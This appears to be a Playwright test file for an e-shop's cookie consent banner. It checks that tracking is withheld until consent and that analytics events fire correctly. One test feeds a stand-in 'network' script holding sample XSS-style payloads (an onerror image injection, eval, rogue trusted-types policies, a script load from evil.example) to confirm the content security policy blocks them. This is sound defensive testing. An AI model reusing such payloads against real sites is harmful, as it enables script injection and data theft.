import { setTimeout as pause } from 'node:timers/promises'
import { expect, type Page, test as withoutReports } from '@playwright/test'
import { agreeAndOrder, demo, shopperWith, toPayment } from '../support/journey-carts.ts'
import { expectAccessible } from '../support/accessible.ts'
import { newEmail } from '../support/journey-people.ts'
import { fillRegistration } from '../support/journey-registration.ts'
import { test } from '../support/journey.ts'

test.use({ storageState: { cookies: [], origins: [] } })
withoutReports.use({ storageState: { cookies: [], origins: [] } })

const banner = (page: Page) =>
  page.getByRole('region', { name: 'Vai drīkstam skaitīt apmeklējumus?' })

/** What the page asks for beyond the shop; the networks themselves are not to be had here. */
async function watchOutside(page: Page): Promise<string[]> {
  const outside: string[] = []
  await page.route(
    (url) => url.hostname !== 'localhost',
    (route) => {
      outside.push(route.request().url())
      return route.fulfill({ contentType: 'text/javascript', body: '' })
    },
  )
  return outside
}

/** The program has started and knows the visitor's cart: it would have asked the networks before. */
const awake = (page: Page) => expect(page.getByRole('link', { name: /^Grozs, 1/ })).toBeVisible()

async function walk(page: Page) {
  await page.goto('/')
  await page.goto('/goods-search/medus')
  // The next page would show the cart without what is still on its way.
  const added = page.waitForResponse((answer) => answer.url().endsWith('/cartitem'))
  await page
    .getByRole('button', { name: /^Pievienot grozam/ })
    .first()
    .click()
  await awake(page)
  await added
  await page.goto('/kontakti')
  await awake(page)
}

/** What was told to both networks since the page was loaded. */
const sentEvents = (page: Page) =>
  page.evaluate(() => {
    const networks = window as unknown as {
      dataLayer?: ArrayLike<unknown>[]
      fbq?: { queue: unknown[][] }
    }
    const google = (networks.dataLayer ?? [])
      .map((command) => Array.from(command))
      .filter(([kind]) => kind === 'event')
    const meta = (networks.fbq?.queue ?? []).filter(([kind]) => kind === 'track')
    return {
      google: google.map(([, name]) => name as string),
      meta: meta.map(([, name]) => name as string),
      parameters: Object.fromEntries(
        [...google, ...meta].map(([, name, values]) => [name as string, values]),
      ),
    }
  })

test('no tracking before an answer or after a no, which is as easy as a yes @phone', async ({
  page,
}) => {
  const outside = await watchOutside(page)
  await walk(page)
  await expect(banner(page)).toBeVisible()
  await expectAccessible(page)
  expect(outside).toEqual([])

  const size = async (name: string) => {
    const { width, height } = (await banner(page).getByRole('button', { name }).boundingBox())!
    return [Math.round(height), Math.round(width) >= 100]
  }
  expect(await size('Noraidīt visu')).toEqual(await size('Piekrist visam'))
  const classOf = (name: string) => banner(page).getByRole('button', { name }).getAttribute('class')
  expect(await classOf('Noraidīt visu')).toBe(await classOf('Piekrist visam'))

  await banner(page).getByRole('button', { name: 'Noraidīt visu' }).click()
  await expect(banner(page)).toBeHidden()
  await page.goto('/goods/1')
  await awake(page)
  await expect(banner(page)).toBeHidden()
  expect(outside).toEqual([])
})

test('each purpose is chosen separately, remembered and changed from the footer', async ({
  page,
}) => {
  const outside = await watchOutside(page)
  await page.goto('/')
  await banner(page).getByRole('button', { name: 'Izvēlēties' }).click()
  await banner(page).getByRole('checkbox', { name: 'Apmeklējumu uzskaite' }).check()
  await banner(page).getByRole('button', { name: 'Saglabāt izvēli' }).click()
  await expect.poll(() => outside.length).toBe(1)
  expect(outside[0]).toMatch(/^https:\/\/www\.googletagmanager\.com\//)

  await page.reload()
  await expect(banner(page)).toBeHidden()
  await page.getByRole('contentinfo').getByRole('link', { name: 'Sīkdatnes' }).click()
  await expect(page.getByRole('checkbox', { name: 'Apmeklējumu uzskaite' })).toBeChecked()
  await expect(page.getByRole('checkbox', { name: 'Reklāmas novērtēšana' })).not.toBeChecked()
  await page.getByRole('button', { name: 'Noraidīt visu' }).click()
  await expect(page.getByText('Jūsu izvēle ir saglabāta.')).toBeVisible()
  await expectAccessible(page)
  outside.length = 0
  await page.goto('/goods/1')
  await page
    .getByRole('button', { name: /^Pievienot grozam/ })
    .first()
    .click()
  await awake(page)
  expect(outside).toEqual([])
})

// What the networks' own scripts do with trusted types, scripts, pictures and requests.
const standIns: Record<string, string> = {
  '/en_US/fbevents.js': `
    const meta = trustedTypes.createPolicy('connect.facebook.net/fbevents', {
      createScriptURL: (address) => address,
    })
    const script = document.createElement('script')
    script.src = meta.createScriptURL('https://connect.facebook.net/signals/config/1234567890')
    document.head.append(script)`,
  '/signals/config/1234567890': `
    fbq.callMethod = (...command) => {
      new Image().src = 'https://www.facebook.com/tr/?ev=' + command[1]
    }
    for (const command of fbq.queue.splice(0)) fbq.callMethod(...command)`,
  '/gtag/js': `
    const google = trustedTypes.createPolicy('goog#html', { createHTML: (text) => text })
    document.createElement('template').innerHTML = google.createHTML('<i></i>')
    for (const command of dataLayer)
      if (command[0] === 'event')
        fetch('https://region1.google-analytics.com/g/collect?en=' + command[1], {
          mode: 'no-cors',
        })`,
}

test('after a yes the networks’ own scripts run under the content policy', async ({ page }) => {
  const asked: string[] = []
  await page.route(
    (url) => url.hostname !== 'localhost',
    (route) => {
      const address = new URL(route.request().url())
      asked.push(`${address.hostname}${address.pathname}`)
      const body = standIns[address.pathname] ?? ''
      return route.fulfill({ contentType: 'text/javascript', body })
    },
  )
  await page.goto('/good/101')
  await banner(page).getByRole('button', { name: 'Piekrist visam' }).click()
  await expect
    .poll(() => [...new Set(asked)].toSorted())
    .toEqual([
      'connect.facebook.net/en_US/fbevents.js',
      'connect.facebook.net/signals/config/1234567890',
      'region1.google-analytics.com/g/collect',
      'www.facebook.com/tr/',
      'www.googletagmanager.com/gtag/js',
    ])
})

// S-m5: what a network's script would do beyond the policy that bears its name.
const reaching = `
  for (const reach of [
    () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
    () => trustedTypes.createPolicy('networks', { createScriptURL: (address) => address }),
    () => { document.body.innerHTML = '<img src=x onerror="hostile = 1">' },
    () => { document.createElement('script').text = 'hostile = 1' },
    () => { document.createElement('script').src = 'https://evil.example/more.js' },
    () => eval('hostile = 1'),
  ]) try { reach(); reached = 1 } catch { stopped = (window.stopped ?? 0) + 1 }
  const google = trustedTypes.createPolicy('goog#html', { createScriptURL: (address) => address })
  const script = document.createElement('script')
  script.src = google.createScriptURL('https://evil.example/more.js')
  document.head.append(script)`

withoutReports(
  'a network’s script that reaches further is stopped, and the shop goes on',
  async ({ page }) => {
    const asked: string[] = []
    await page.route(
      (url) => url.hostname !== 'localhost',
      (route) => {
        const { hostname, pathname } = new URL(route.request().url())
        asked.push(hostname)
        const body = pathname === '/gtag/js' ? reaching : ''
        return route.fulfill({ contentType: 'text/javascript', body })
      },
    )
    await page.goto('/good/101')
    await banner(page).getByRole('button', { name: 'Piekrist visam' }).click()
    const found = () =>
      page.evaluate(() => {
        const page = window as unknown as Record<string, unknown>
        return [page['stopped'], page['reached'], page['hostile']]
      })
    await expect.poll(found).toEqual([6, undefined, undefined])
    await page.getByRole('button', { name: 'Pievienot grozam', exact: true }).click()
    await expect(page.getByRole('link', { name: /^Grozs, 1/ })).toBeVisible()
    expect(asked).not.toContain('evil.example')
  },
)

test('an answer given before the visitor has a token is recorded under that token', async ({
  page,
}) => {
  await page.route('**/api/authenticate/guest', async (route) => {
    await pause(1_000)
    await route.continue()
  })
  await page.goto('/')
  const recorded = page.waitForResponse('**/api/consent')
  await banner(page).getByRole('button', { name: 'Noraidīt visu' }).click()
  expect((await recorded).status()).toBe(200)
})

test('after a yes each event is sent once, with goods, sum and currency', async ({
  page,
  request,
}) => {
  await watchOutside(page)
  await page.goto('/')
  await banner(page).getByRole('button', { name: 'Piekrist visam' }).click()
  await page.goto('/good/101')
  await page.getByRole('button', { name: 'Pievienot grozam', exact: true }).click()
  await expect(page.getByRole('link', { name: /^Grozs, 1/ })).toBeVisible()
  await expect
    .poll(async () => (await sentEvents(page)).google.toSorted())
    .toEqual(['add_to_cart', 'page_view', 'view_item'])
  const { meta, parameters } = await sentEvents(page)
  expect(meta.toSorted()).toEqual(['AddToCart', 'PageView', 'ViewContent'])
  expect(parameters.AddToCart).toMatchObject({
    currency: 'EUR',
    content_ids: ['101'],
    value: expect.any(Number),
  })
  expect(parameters.add_to_cart).toMatchObject({
    currency: 'EUR',
    items: [{ item_id: '101', quantity: 1 }],
  })

  await shopperWith(page, request, { [demo.flakes]: 3 })
  await page.goto('/cart')
  await toPayment(page)
  await page.getByRole('radio', { name: /Skaidrā naudā/ }).check()
  await agreeAndOrder(page)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Paldies par pasūtījumu!')
  const ordered = await sentEvents(page)
  for (const name of ['InitiateCheckout', 'AddPaymentInfo', 'Purchase'])
    expect(
      ordered.meta.filter((event) => event === name),
      name,
    ).toHaveLength(1)
  expect(ordered.google.filter((name) => name === 'purchase')).toHaveLength(1)
  expect(ordered.parameters.Purchase).toMatchObject({ currency: 'EUR', num_items: 3 })
  expect(ordered.parameters.purchase).toMatchObject({
    currency: 'EUR',
    transaction_id: expect.any(String),
  })
  await page.reload()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Paldies par pasūtījumu!')
  await expect.poll(async () => (await sentEvents(page)).meta).toContain('PageView')
  expect((await sentEvents(page)).meta).not.toContain('Purchase')
})

test('a registration is sent once, without personal data', async ({ page }) => {
  await watchOutside(page)
  await page.goto('/new-user')
  await banner(page).getByRole('button', { name: 'Piekrist visam' }).click()
  const email = newEmail()
  await fillRegistration(page, email, 'Ilze Kalniņa')
  await page.getByRole('button', { name: 'Izveidot profilu' }).click()
  await expect(page).toHaveURL('/')
  const { google, meta, parameters } = await sentEvents(page)
  expect([
    google.filter((name) => name === 'sign_up').length,
    meta.filter((name) => name === 'CompleteRegistration').length,
  ]).toEqual([1, 1])
  expect(JSON.stringify(parameters)).not.toContain(email)
})
